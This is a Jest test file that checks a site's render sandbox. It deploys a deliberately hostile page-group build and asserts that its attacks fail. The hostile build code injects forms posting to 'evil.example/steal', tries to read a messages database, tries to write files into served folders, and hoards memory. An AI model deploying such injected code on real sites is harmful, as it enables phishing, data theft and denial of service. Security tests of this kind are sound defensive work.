/**
 * @jest-environment node
 */
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { sha256Integrity } from '@site/contracts/integrity';
import { SITE_REMOTES } from '@site/contracts/site';
import { createRemoteServer, type RemoteHost } from '@site/serving';
import http from 'node:http';
import { createSite, type Site } from '../site';
import { parseSiteSettings } from '../settings';
import { freshDatabase } from './test-postgres';

/**
 * A page-group team turned hostile: it builds a real version of its group, replaces its Node build
 * with code that attacks the site, and deploys it through the deploy API with the pin of its own
 * file, as any team can. Its code reads nothing of the outbox or the deploy folder, writes into no
 * served folder, listens nowhere, and changes nothing of any other group's pages or the shell's:
 * they stay byte for byte what they were, while it is live and after its rollback; its memory and
 * its page size are bounded, and its failures count for it alone. The site's control plane is a
 * database of the run's PostgreSQL; the group's host listens on a port the system has free.
 */
const ROOT = path.join(__dirname, '..', '..', '..');
const SHELL_DIST = path.join(ROOT, 'shell', 'dist');
const TOKEN = 'deploy-token-of-the-hostile-group-test';
const DATA = SITE_REMOTES.find((r) => r.name === 'data')!;
const PUBLIC_HEALTH = SITE_REMOTES.find((r) => r.name === 'public_health')!;
const version = (folder: string): string =>
  (JSON.parse(readFileSync(path.join(ROOT, folder, 'package.json'), 'utf8')) as { version: string })
    .version;

let work: string;
let host: RemoteHost;
let origin: string;
let site: Site;
let outboxFile: string;
let deployDir: string;
const log: string[] = [];

/** The hostile version's Node build: the real pages, plus attacks run while they render. */
function hostileBuild(real: string, outbox: string, served: string[]): string {
  return `${real}
;(() => {
  const React = require('react');
  const get = (name) => process.getBuiltinModule(name);
  const tried = [];
  const attempt = (what, act) => { try { tried.push(what + ': ' + String(act())); } catch (e) { tried.push(what + ': ' + (e.code || e.name)); } };
  // 1. The prospects' messages, and files in the site's served folders, through node:sqlite.
  attempt('outbox', () => new (get('node:sqlite').DatabaseSync)(${JSON.stringify(outbox)}).prepare('SELECT * FROM messages').all().length);
  for (const file of ${JSON.stringify(served)}) {
    attempt('attach', () => { const db = new (get('node:sqlite').DatabaseSync)(':memory:'); db.exec("ATTACH DATABASE '" + file + "' AS x; CREATE TABLE x.t (v)"); return 'written'; });
  }
  // 2. Every render job of the process answered first, with a form posting elsewhere.
  attempt('listener', () => { process.on('message', () => undefined); return 'listening'; });
  const createElement = React.createElement;
  React.createElement = (type, props, ...children) =>
    type === 'main' || type === 'footer'
      ? createElement(type, props, createElement('form', { action: 'https://evil.example/steal' }), ...children)
      : createElement(type, props, ...children);
  // 4. A socket of its own, and memory kept from a timer.
  attempt('listen', () => { const n = get('net'); n.Server.prototype._listen2.call(n.createServer(), '127.0.0.1', 47002, 4, 511); return 'listening'; });
  const kept = [];
  setInterval(() => { if (globalThis.HOARD) kept.push(Buffer.alloc(8 * 1024 * 1024, 1)); }, 20);
  globalThis.HOSTILE_TRIED = tried;
  const pages = module.exports.pages;
  let scienceRenders = 0;
  for (const key of Object.keys(pages)) {
    const load = pages[key];
    pages[key] = async () => {
      if (key.endsWith('/big-data')) globalThis.HOARD = true;
      // Small while the deploy checks it, then a hundred megabytes for every visitor.
      if (key.endsWith('/data-science') && ++scienceRenders > 1) {
        return { default: () => createElement('p', null, 'x'.repeat(100 * 1024 * 1024)) };
      }
      const page = await load();
      const Real = page.default;
      return {
        default: () =>
          createElement(
            'div',
            { 'data-tried': tried.join('; ') },
            createElement('form', { action: 'https://evil.example/steal' }),
            createElement(Real),
          ),
      };
    };
  }
})();
`;
}

/** Every page of the site but the hostile group's: the shell's, another group's, and the 404 page. */
const OTHERS = [
  '/',
  '/about',
  '/contact',
  '/public-health/MandE-tools',
  '/public-health/MandE-solutions',
  '/no-such-page',
];

async function page(urlPath: string) {
  const answer = await site.app.inject({ url: urlPath });
  return { status: answer.statusCode, body: answer.body };
}

/**
 * The other pages as a visitor gets them: status and markup. (The manifest embedded in each page
 * names every group's live version, so it changes with any deploy by design; it is left out.)
 */
async function snapshot(): Promise<Record<string, { status: number; body: string }>> {
  const pages: Record<string, { status: number; body: string }> = {};
  for (const urlPath of OTHERS) {
    const { status, body } = await page(urlPath);
    pages[urlPath] = {
      status,
      body: body.replace(
        /<script type="application\/json" id="site-manifest">[\s\S]*?<\/script>/,
        '',
      ),
    };
  }
  return pages;
}

async function api(method: string, route: string, body?: unknown) {
  const answer = await site.app.inject({
    method: method as 'GET',
    url: `/_deploy${route}`,
    headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { payload: JSON.stringify(body) }),
  });
  return { status: answer.statusCode, body: answer.json<Record<string, unknown>>() };
}

const listening = (port: number) =>
  new Promise<boolean>((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('error', () => resolve(false));
  });

/** Every file under a folder, with its bytes, to compare before and after. */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const entry of readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const file = path.join(entry.parentPath, entry.name);
    out[path.relative(dir, file)] = createHash('sha256').update(readFileSync(file)).digest('hex');
  }
  return out;
}

beforeAll(async () => {
  // The shell's and the groups' builds are current: global-setup.ts made any that were not.
  work = mkdtempSync(path.join(os.tmpdir(), 'hostile-group-'));
  // The groups' origin: their real version folders, and the hostile version beside data's.
  const remotes = path.join(work, 'remotes');
  for (const r of [DATA, PUBLIC_HEALTH]) {
    cpSync(
      path.join(ROOT, r.folder, 'dist', version(r.folder)),
      path.join(remotes, r.name, version(r.folder)),
      {
        recursive: true,
      },
    );
  }
  // The mail-service's outbox, kept as the mail-service keeps it: its owner's alone.
  mkdirSync(path.join(work, 'outbox'), { mode: 0o700 });
  outboxFile = path.join(work, 'outbox', 'outbox.sqlite');
  const outbox = new DatabaseSync(outboxFile);
  outbox.exec(
    "CREATE TABLE messages (body TEXT); INSERT INTO messages VALUES ('a prospect''s message')",
  );
  outbox.close();

  host = await createRemoteServer(remotes);
  const server = host.app.server as http.Server;
  await host.app.ready();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;

  deployDir = path.join(work, 'deploy');
  mkdirSync(deployDir, { mode: 0o700 });
  const entry = (r: typeof DATA) => {
    const dir = path.join(remotes, r.name, version(r.folder));
    const table = JSON.parse(readFileSync(path.join(dir, 'routes.json'), 'utf8')) as object;
    return {
      name: r.name,
      entry: `${origin}/${r.name}/${version(r.folder)}/remoteEntry.js`,
      version: version(r.folder),
      ...table,
      // Pinned as a deploy pins it: the SHA-256 of the Node build its origin serves.
      serverIntegrity: sha256Integrity(readFileSync(path.join(dir, 'server', 'pages.js'))),
    };
  };
  writeFileSync(
    path.join(deployDir, 'remotes.json'),
    JSON.stringify({
      schemaVersion: 1,
      generatedAt: '',
      remotes: [entry(DATA), entry(PUBLIC_HEALTH)],
    }),
  );
  site = await createSite(
    parseSiteSettings({
      SHELL_DIST,
      DEPLOY_DIR: deployDir,
      DATABASE_URL: await freshDatabase(),
      MAIL_SERVICE_URL: 'http://127.0.0.1:9',
      SITE_URL: 'https://www.example.com',
      RENDER_WORKERS: '1',
      RENDER_MEMORY_MB: '200',
      DEPLOY_TOKEN: TOKEN,
      DEPLOY_ALLOWED_ORIGINS: origin,
    }),
    { processMetrics: false, log: (line) => log.push(line) },
  );
  await site.app.ready();
}, 300_000);

afterAll(async () => {
  await site?.close();
  await host?.close();
  rmSync(work, { recursive: true, force: true });
});

test('a hostile group reaches no data, no other group and no bound, live or rolled back', async () => {
  const before = await snapshot();
  expect(before['/']!.status).toBe(200);
  expect(before['/no-such-page']!.status).toBe(404);
  // Folders the site serves (which must not change), and the deploy folder (which only deploys may).
  const served = [path.join(SHELL_DIST, 'public'), path.join(work, 'remotes', 'public_health')];
  const files = served.map(tree);
  const targets = [...served, deployDir].map((dir) => path.join(dir, 'x.html'));

  // The team builds 6.6.6 from its real build, with its Node build replaced, and deploys it.
  const real = path.join(work, 'remotes', 'data', version(DATA.folder));
  const hostile = path.join(work, 'remotes', 'data', '6.6.6');
  cpSync(real, hostile, { recursive: true });
  writeFileSync(
    path.join(hostile, 'server', 'pages.js'),
    hostileBuild(readFileSync(path.join(real, 'server', 'pages.js'), 'utf8'), outboxFile, targets),
  );
  const base = (await api('GET', '/manifest')).body.version;
  // Its pages render while the deploy checks them (its attacks fail quietly): it goes live.
  const deployed = await api('PUT', '/remotes/data', {
    base,
    entry: `${origin}/data/6.6.6/remoteEntry.js`,
    version: '6.6.6',
    reason: 'hostile',
  });
  expect(deployed.status).toBe(200);

  // What its code tried, as its own page shows it: every attempt refused.
  const own = await page('/services/business-intelligence/bi');
  expect(own.status).toBe(200);
  const tried = /data-tried="([^"]*)"/.exec(own.body)?.[1] ?? '';
  expect(tried.split('; ')).toEqual([
    'outbox: ERR_BUILTIN_DENIED',
    'attach: ERR_BUILTIN_DENIED',
    'attach: ERR_BUILTIN_DENIED',
    'attach: ERR_BUILTIN_DENIED',
    'listener: listening',
    'listen: ERR_BUILTIN_DENIED',
  ]);
  // Its own pages carry its form; no one else's does.
  expect(own.body).toContain('evil.example');
  expect(await snapshot()).toEqual(before);
  expect(await listening(47002)).toBe(false);
  expect(served.map(tree)).toEqual(files);
  expect(targets.filter((t) => existsSync(t))).toEqual([]);

  // Its page of a hundred megabytes is never served: the notice stands in, and it is its failure.
  const rss = process.memoryUsage().rss;
  const huge = await page('/services/data-analytics/data-science');
  expect(huge.status).toBe(503);
  expect(huge.body).toContain('temporarily unavailable');
  expect(huge.body.length).toBeLessThan(500_000);
  expect(process.memoryUsage().rss - rss).toBeLessThan(50 * 1024 * 1024);
  // Stopped by whichever bound it meets first: its reply's size, its memory or its heap.
  expect(log.join('\n')).toMatch(
    /data@6\.6\.6: a render process (its reply is over \d+ bytes|held \d+ MB, over its limit of 200 MB|was stopped by SIGABRT: FATAL ERROR: Reached heap limit)/,
  );
  expect(site.metrics.renderFailuresIn('data', '6.6.6', 60_000)).toBe(1);

  // Its memory is bounded: the process that hoards is ended, the others carry on.
  await page('/services/data-analytics/big-data');
  const deadline = Date.now() + 20_000;
  while (!log.some((l) => /over its limit of 200 MB/.test(l)) && Date.now() < deadline) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  expect(log.join('\n')).toMatch(
    /render pool data@6\.6\.6: a render process held \d+ MB, over its limit of 200 MB/,
  );
  expect(await snapshot()).toEqual(before);
  // Its failures are its own: none is counted for another group.
  expect(
    site.metrics.renderFailuresIn('public_health', version(PUBLIC_HEALTH.folder), 60_000),
  ).toBe(0);

  // Rolled back: its processes end, and every page is as it was.
  const back = await api('POST', '/remotes/data/rollback', {
    base: (await api('GET', '/manifest')).body.version,
  });
  expect(back.status).toBe(200);
  expect(await snapshot()).toEqual(before);
  const after = await page('/services/business-intelligence/bi');
  expect(after.body).not.toContain('evil.example');
  expect(log.join('\n')).toContain('render pool data@6.6.6: retired (it is no longer live)');
}, 120_000);
